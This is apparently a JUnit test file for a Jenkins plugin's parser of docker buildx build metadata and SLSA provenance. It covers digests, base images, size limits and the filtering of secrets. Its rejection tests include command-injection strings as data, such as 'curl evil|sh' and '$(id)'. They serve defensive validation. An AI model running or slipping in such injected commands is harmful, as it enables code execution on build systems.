package io.jenkins.plugins.cvmfs.engine.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class BuildMetadataTest {
    private static final String HEX_A = "8e25010c6bdba910bc50bb703ea5e991b2012f2ceecaf5513b7baf446879af23";
    private static final String HEX_B = "31c89d173a6552668ba588c40c1c7ca82d5da6c91595f7365a577019b2e1278a";

    /** As buildx 0.29 writes it on a docker-container builder, with a frontend by image. */
    private static final String SLSA_02 = """
            {
              "buildx.build.provenance": {
                "buildType": "https://mobyproject.org/buildkit@v1",
                "materials": [
                  {"uri": "pkg:docker/127.0.0.1%%3A5100/x@b?platform=linux%%2Famd64", "digest": {"sha256": "%s"}},
                  {"uri": "pkg:docker/docker/dockerfile@1", "digest": {"sha256": "%s"}},
                  {"uri": "pkg:docker/127.0.0.1%%3A5100/y?digest=sha256:%s&platform=linux%%2Famd64", "digest": {"sha256": "%3$s"}},
                  {"uri": "pkg:docker/nothing?platform=linux%%2Famd64", "digest": {}},
                  {"uri": "https://example.org/a.git#main", "digest": {"sha1": "0"}}
                ],
                "invocation": {
                  "configSource": {"entryPoint": "Dockerfile"},
                  "parameters": {
                    "frontend": "gateway.v0",
                    "args": {"build-arg:X": "secret", "cmdline": "docker/dockerfile:1", "source": "docker/dockerfile:1"}
                  }
                }
              },
              "buildx.build.ref": "b/b0/qb7u8f7drm7ux0dby25bddxa6",
              "containerimage.descriptor": {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": "sha256:1a5d7e59a8c452636f2e31948d279415790c8dee67884fb51b7f5021b68f89ec",
                "size": 855,
                "platform": {"architecture": "arm", "os": "linux", "variant": "v7"}
              },
              "containerimage.config.digest": "sha256:308b283405b2cd4df1e5dd395035157d540484ae31cc1b8d4faa6c5547b1a247",
              "containerimage.digest": "sha256:1a5d7e59a8c452636f2e31948d279415790c8dee67884fb51b7f5021b68f89ec",
              "image.name": "127.0.0.1:5100/a:1"
            }
            """.formatted(HEX_A, HEX_B, HEX_B);

    /** The later form, one block a platform. */
    private static final String SLSA_1 = """
            {
              "buildx.build.provenance/linux/amd64": {
                "buildDefinition": {
                  "externalParameters": {"request": {"frontend": "gateway.v0", "args": {"source": "docker.io/docker/dockerfile:1"}}},
                  "resolvedDependencies": [
                    {"uri": "pkg:docker/debian@12?platform=linux%%2Famd64", "digest": {"sha256": "%1$s"}},
                    {"uri": "pkg:docker/docker/dockerfile@1", "digest": {"sha256": "%2$s"}}
                  ]
                }
              },
              "buildx.build.provenance/linux/arm64": {
                "buildDefinition": {
                  "resolvedDependencies": [
                    {"uri": "pkg:docker/debian@12?platform=linux%%2Farm64", "digest": {"sha256": "%1$s"}},
                    {"uri": "pkg:docker/a/b@sha256:%2$s?platform=linux%%2Farm64", "digest": {"sha256": "%2$s"}}
                  ]
                }
              },
              "containerimage.descriptor": {}
            }
            """.formatted(HEX_A, HEX_B);

    @Test
    void theMembers() throws Exception {
        BuildMetadata metadata = BuildMetadata.read(SLSA_02);

        assertThat(metadata.digest())
                .contains("sha256:1a5d7e59a8c452636f2e31948d279415790c8dee67884fb51b7f5021b68f89ec");
        assertThat(metadata.configDigest())
                .contains("sha256:308b283405b2cd4df1e5dd395035157d540484ae31cc1b8d4faa6c5547b1a247");
        assertThat(metadata.mediaType()).contains("application/vnd.oci.image.manifest.v1+json");
        assertThat(metadata.platform()).contains("linux/arm/v7");
    }

    @Test
    void baseImagesOfSlsa02() throws Exception {
        assertThat(BuildMetadata.read(SLSA_02).baseImages())
                .containsExactly(
                        new BaseImage("127.0.0.1:5100/x:b", "sha256:" + HEX_A),
                        new BaseImage("127.0.0.1:5100/y@sha256:" + HEX_B, "sha256:" + HEX_B));
    }

    @Test
    void baseImagesOfSlsa1() throws Exception {
        assertThat(BuildMetadata.read(SLSA_1).baseImages())
                .containsExactly(
                        new BaseImage("debian:12", "sha256:" + HEX_A),
                        new BaseImage("a/b@sha256:" + HEX_B, "sha256:" + HEX_B));
    }

    @Test
    void withoutDescriptorTheDigestOfABaseImageIsNoRegistrys() throws Exception {
        String own =
                "{\"buildx.build.provenance\":{\"materials\":[{\"uri\":\"pkg:docker/a@1\",\"digest\":{\"sha256\":\""
                        + HEX_A + "\"}}]}}";

        assertThat(BuildMetadata.read(own).baseImages()).containsExactly(new BaseImage("a:1", null));
    }

    @Test
    void anEmptyObjectIsIgnored() throws Exception {
        BuildMetadata metadata = BuildMetadata.read("{}");

        assertThat(metadata.digest()).isEmpty();
        assertThat(metadata.configDigest()).isEmpty();
        assertThat(metadata.mediaType()).isEmpty();
        assertThat(metadata.platform()).isEmpty();
        assertThat(metadata.baseImages()).isEmpty();
    }

    @Test
    void membersOfAnotherTypeAreSkipped() throws Exception {
        BuildMetadata metadata = BuildMetadata.read(
                "{\"containerimage.digest\":1,\"containerimage.config.digest\":\"\",\"containerimage.descriptor\":[],"
                        + "\"buildx.build.provenance\":{\"materials\":{\"a\":7},\"buildDefinition\":null}}");

        assertThat(metadata.digest()).isEmpty();
        assertThat(metadata.configDigest()).isEmpty();
        assertThat(metadata.mediaType()).isEmpty();
        assertThat(metadata.baseImages()).isEmpty();
    }

    /** The frontend of a line such as {@code # syntax=docker/dockerfile:1@sha256:...}. */
    @ParameterizedTest
    @CsvSource({
        "docker/dockerfile:1, docker/dockerfile@1",
        "docker/dockerfile, docker/dockerfile@latest",
        "docker.io/docker/dockerfile:1, docker/dockerfile@1",
        "docker/dockerfile:1@sha256:%1$s, docker/dockerfile@1?digest=sha256:%1$s&platform=linux%%2Famd64",
        "docker/dockerfile:1@sha256:%1$s, docker/dockerfile@1?digest=sha256%%3A%1$s",
        "docker/dockerfile@sha256:%1$s, docker/dockerfile?digest=sha256:%1$s",
        "docker/dockerfile@sha256:%1$s, docker/dockerfile@sha256:%1$s",
        "registry.example.org:5000/f:1@sha256:%1$s, registry.example.org%%3A5000/f@1?digest=sha256:%1$s"
    })
    void theFrontendIsNoBaseImage(String source, String material) throws Exception {
        String metadata = "{\"buildx.build.provenance\":{\"materials\":[{\"uri\":\"pkg:docker/"
                + material.formatted(HEX_A) + "\"},{\"uri\":\"pkg:docker/debian@12\"}],\"invocation\":{\"parameters\":"
                + "{\"args\":{\"source\":\"" + source.formatted(HEX_A) + "\"}}}}}";

        assertThat(BuildMetadata.read(metadata).baseImages()).containsExactly(new BaseImage("debian:12", null));
    }

    static Stream<Arguments> whatIsRefused() {
        return Stream.of(
                Arguments.of("{\"containerimage.digest\":\"sha256:0; curl evil|sh #\"}", "containerimage.digest"),
                Arguments.of("{\"containerimage.digest\":\"sha256:" + HEX_A.toUpperCase(Locale.ROOT) + "\"}", "64"),
                Arguments.of("{\"containerimage.config.digest\":\"x$(id)\"}", "containerimage.config.digest"),
                Arguments.of("{\"containerimage.descriptor\":{\"mediaType\":\"a b\"}}", "a media type"),
                Arguments.of("{\"containerimage.descriptor\":{\"platform\":{\"os\":\"a/b\"}}}", "invalid os"),
                Arguments.of(material("a@%zz", HEX_A), "invalid uri"),
                Arguments.of(material("A@1", HEX_A), "the name of an image"),
                Arguments.of(material("a@$(id)", HEX_A), "the name of an image"),
                Arguments.of(material("a@1", "0; id"), "64 hexadecimal digits"),
                Arguments.of("{\"a\":" + "[".repeat(2000), "it is not valid JSON"),
                Arguments.of("{\"containerimage.digest\":\"" + "x".repeat(100_000) + "\"}", "..."));
    }

    private static String material(String uri, String sha256) {
        return "{\"containerimage.descriptor\":{},\"buildx.build.provenance\":{\"materials\":[{\"uri\":\"pkg:docker/"
                + uri + "\",\"digest\":{\"sha256\":\"" + sha256 + "\"}}]}}";
    }

    @ParameterizedTest
    @MethodSource("whatIsRefused")
    void valuesOutsideTheGrammarAreRefused(String metadata, String why) {
        assertThatThrownBy(() -> BuildMetadata.read(metadata))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageStartingWith("buildx's metadata file cannot be read: ")
                .hasMessageContaining(why)
                .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(300));
    }

    @Test
    void moreBaseImagesThanThereCanBeAreRefused() {
        String materials = IntStream.range(0, 1001)
                .mapToObj(i -> "{\"uri\":\"pkg:docker/a@" + i + "\"}")
                .collect(Collectors.joining(","));

        assertThatThrownBy(
                        () -> BuildMetadata.read("{\"buildx.build.provenance\":{\"materials\":[" + materials + "]}}"))
                .hasMessageContaining("expected at most 1000 base images");
    }

    @Test
    void publicFieldsAreAListOfNames() throws Exception {
        assertThat(PublicMetadata.of("{\"auths\":{\"a\":\"secret\"},\"containerimage.buildinfo\":\"secret\","
                        + "\"containerimage.buildinfo/linux/amd64\":\"secret\",\"buildx.build.warnings\":[\"secret\"],"
                        + "\"image.name\":\"a:1\",\"buildx.build.ref\":\"r\",\"containerimage.digest\":\"d\"}"))
                .doesNotContain("secret", "auths", "buildinfo", "warnings")
                .contains("\"image.name\" : \"a:1\"", "\"buildx.build.ref\"", "\"containerimage.digest\"");
        assertThatThrownBy(() -> PublicMetadata.of("{\"image.name\":\"" + "x".repeat(70_000) + "\"}"))
                .hasMessageContaining("larger than 64 KiB");
    }

    @Test
    void publicMetadataHasNoProvenance() throws Exception {
        assertThat(PublicMetadata.of(SLSA_02))
                .doesNotContain("secret", "provenance")
                .contains("containerimage.digest", "image.name");
        assertThat(PublicMetadata.of(SLSA_1)).doesNotContain("provenance");
    }
}
